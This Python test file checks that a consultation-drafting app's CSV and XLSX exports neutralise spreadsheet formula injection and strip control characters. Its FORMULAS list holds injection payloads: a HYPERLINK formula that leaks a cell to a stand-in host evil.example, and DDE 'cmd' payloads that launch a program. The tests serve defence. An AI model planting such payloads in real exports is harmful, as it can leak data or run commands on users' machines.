"""Tables for people and scripts: XLSX cells are text (never formulas), CSV cells that look
like formulas are neutralised (OWASP), and both are served with the right type."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

import openpyxl
import pytest

from drafter import consulting, summary
from drafter.storage import open_store

from .consultation_fixture import PASSWORD, build_world, make_app

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    world = build_world(tmp_path_factory.mktemp("sheets") / "sheets.sqlite")
    store = open_store(world.db_path)
    consultation = store.get_consultation(world.consultation_id)
    lead = store.get_user(world.users["tn-lead"])
    now = datetime.now(UTC).replace(microsecond=0).isoformat()
    for payload in FORMULAS:
        consulting.add_comment(
            store, lead, consultation, key="chuong-1/dieu-1", kind="new_wording",
            text=payload, proposed_text=payload, now=now,
        )  # fmt: skip
    consulting.submit(store, lead, consultation, no_comments=False, now=now)
    store.close()
    return world


@pytest.fixture(scope="module")
def table(world):
    store = open_store(world.db_path)
    try:
        return summary.build(store, world.consultation_id)
    finally:
        store.close()


def test_csv_cells_that_look_like_formulas_start_with_an_apostrophe(table):
    rows = list(csv.reader(io.StringIO(summary.to_csv(table).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    for payload in FORMULAS:  # as stored: comments are trimmed
        assert "'" + payload.strip() in cells, payload
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Ordinary text is untouched.
    assert "Điều, khoản, điểm" in cells


@pytest.mark.parametrize(
    ("cell", "expected"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@x", "'@x"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("Điều 1", "Điều 1"), ("1-2", "1-2"), ("", "")],
)  # fmt: skip
def test_neutral(cell, expected):
    assert summary.neutral(cell) == expected


def test_xlsx_cells_are_text_exactly_as_typed(table):
    data = summary.to_xlsx(table)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet
    assert "<f " not in sheet
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for row in workbook.active.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type == "s" for c in cells)
    values = {c.value for c in cells}
    assert FORMULAS[0] in values
    assert FORMULAS[1] in values
    assert "BẢNG TỔNG HỢP, TIẾP THU, GIẢI TRÌNH Ý KIẾN GÓP Ý" in values


def test_downloads_have_one_content_type(world):
    app = make_app(world.db_path)
    client = app.test_client()
    client.post("/login", data={"username": "organizer", "password": PASSWORD})
    c = world.consultation_id
    for name, expected in (
        ("summary.csv", "text/csv; charset=utf-8"),
        ("summary.md", "text/markdown; charset=utf-8"),
        ("summary.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ):
        response = client.get(f"/admin/c/{c}/export/{name}")
        assert response.status_code == 200
        assert response.headers["Content-Type"] == expected
        response.close()


def test_a_control_character_in_a_unit_name_is_removed_and_never_breaks_the_summary(tmp_path):
    from drafter import accounts

    world = build_world(tmp_path / "ctl.sqlite")
    store = open_store(world.db_path)
    try:
        unit_id = accounts.create_unit(store, "ha-noi", "Thành ủy\x0bHà Nội", "province")
        assert store.get_unit(unit_id).name == "Thành ủy Hà Nội"
        # A name stored before names were cleaned (straight into the store).
        with store.transaction():
            old = store.create_unit("hue", "Tỉnh ủy\x0bHuế\x07", "province")
            store.invite_unit(world.consultation_id, old, now="2026-01-01T00:00:00+00:00")
        table = summary.build(store, world.consultation_id)
        data = summary.to_docx(table)
        with zipfile.ZipFile(io.BytesIO(data)) as package:
            assert "Tỉnh ủyHuế" in package.read("word/document.xml").decode("utf-8")
    finally:
        store.close()
